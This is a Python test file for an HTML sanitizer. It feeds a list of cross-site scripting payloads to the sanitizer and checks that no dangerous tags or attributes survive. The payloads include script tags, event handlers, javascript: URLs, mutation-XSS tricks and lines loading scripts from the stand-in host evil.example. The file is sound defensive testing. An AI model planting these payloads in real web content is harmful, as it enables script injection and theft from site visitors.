from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reports.sanitize import clean_html, markdown_html, text_html

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    '<a href="javascript:alert(1)">x</a><a href=" java\tscript:alert(1)">x</a><a href="data:text/html,x">',
    '<a href="https://evil.example">x</a><img src="https://evil.example/p.png">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
    '<b title="<table onmouseover=alert(1) x">x</b>',
    "<form action=x><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button>",
    "<style>@import url(//evil.example/x.css)</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:text/html;base64,eA==">',
    '<div id="figure-1" class="plot" name="getElementById">x</div>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
]


def assert_harmless(tags) -> None:
    forbidden = {
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "svg",
        "math",
        "form",
        "input",
        "button",
        "link",
        "meta",
        "base",
    }
    assert not {tag for tag, _ in tags.tags} & forbidden
    for tag, name, value in tags.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in {"id", "name", "srcdoc", "srcset", "formaction", "action"}
        if name in {"href", "src"}:
            assert value.startswith(("#section-", "data:image/")), value
        assert "url(" not in value or name != "style"


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("clean", [clean_html, markdown_html])
def test_nothing_that_acts_survives(read_tags, clean, text: str) -> None:
    assert_harmless(read_tags(clean(f"before {text} after")))


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<table><tr><td>1", "</table>", "<", ">", '"', "'", "<!--", "-->", "\n\n", "`", "a"])
    )
)
def test_no_mixture_of_hostile_pieces_survives(read_tags, pieces: list[str]) -> None:
    assert_harmless(read_tags(clean_html("".join(pieces))))
    assert_harmless(read_tags(markdown_html("".join(pieces))))


def test_tables_headings_and_emphasis_survive() -> None:
    page = markdown_html("## Head\n\n| pair | p |\n|---|---|\n| KO/PEP | 0.03 |\n\n**bold** and `code`")

    assert "<h2>Head</h2>" in page
    assert 'class="table-box"' in page
    assert '<td class="words">KO/PEP</td>' in page
    assert "<td>0.03</td>" in page
    assert "<strong>bold</strong>" in page


def test_a_data_image_and_a_link_inside_the_page_survive() -> None:
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in clean_html(
        '<img alt="a" src="data:image/png;base64,iVBORw0KGgo=">'
    )
    assert clean_html('<a href="#section-2">x</a>') == '<a href="#section-2">x</a>'


def test_terminal_text_is_escaped_and_shows_the_last_state_of_a_line() -> None:
    assert text_html("10%\r50%\r100%\n\x1b[31m<b>\x1b[0m") == "100%\n&lt;b&gt;"
